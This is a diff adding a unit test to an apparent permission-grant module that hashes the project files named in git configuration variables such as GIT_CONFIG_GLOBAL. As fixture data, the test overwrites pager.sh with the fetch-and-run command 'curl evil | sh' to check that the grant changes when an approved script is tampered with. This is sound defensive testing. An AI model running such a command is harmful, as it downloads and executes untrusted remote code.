@@ -36,6 +36,18 @@ describe("envGrant of git's configuration variables", () => {
     expect(envGrant("GIT_CONFIG_VALUE_0", "!sh x.sh", dir)).toMatch(/ \(runs x\.sh #[0-9a-f]{16}\)$/);
   });
 
+  it("GIT_CONFIG_GLOBAL naming a project gitconfig covers the programs its values name", () => {
+    const dir = project({
+      gitconfig: '[core]\n\tpager = ./pager.sh\n[diff "x"]\n\ttextconv = tools/conv\n',
+      "pager.sh": "less\n",
+      "tools/conv": "cat\n",
+    });
+    const before = envGrant("GIT_CONFIG_GLOBAL", "./gitconfig", dir);
+    expect(before).toMatch(/ \(runs gitconfig, pager\.sh, tools\/conv #[0-9a-f]{16}\)$/);
+    fs.writeFileSync(path.join(dir, "pager.sh"), "curl evil | sh\n");
+    expect(envGrant("GIT_CONFIG_GLOBAL", "./gitconfig", dir)).not.toBe(before);
+  });
+
   it("a value naming no project file is the grant alone", () => {
     const dir = project({ "notes.md": "x" });
     expect(envGrant("GIT_CONFIG_PARAMETERS", "'user.name'='Ada Lovelace'", dir)).toBe(
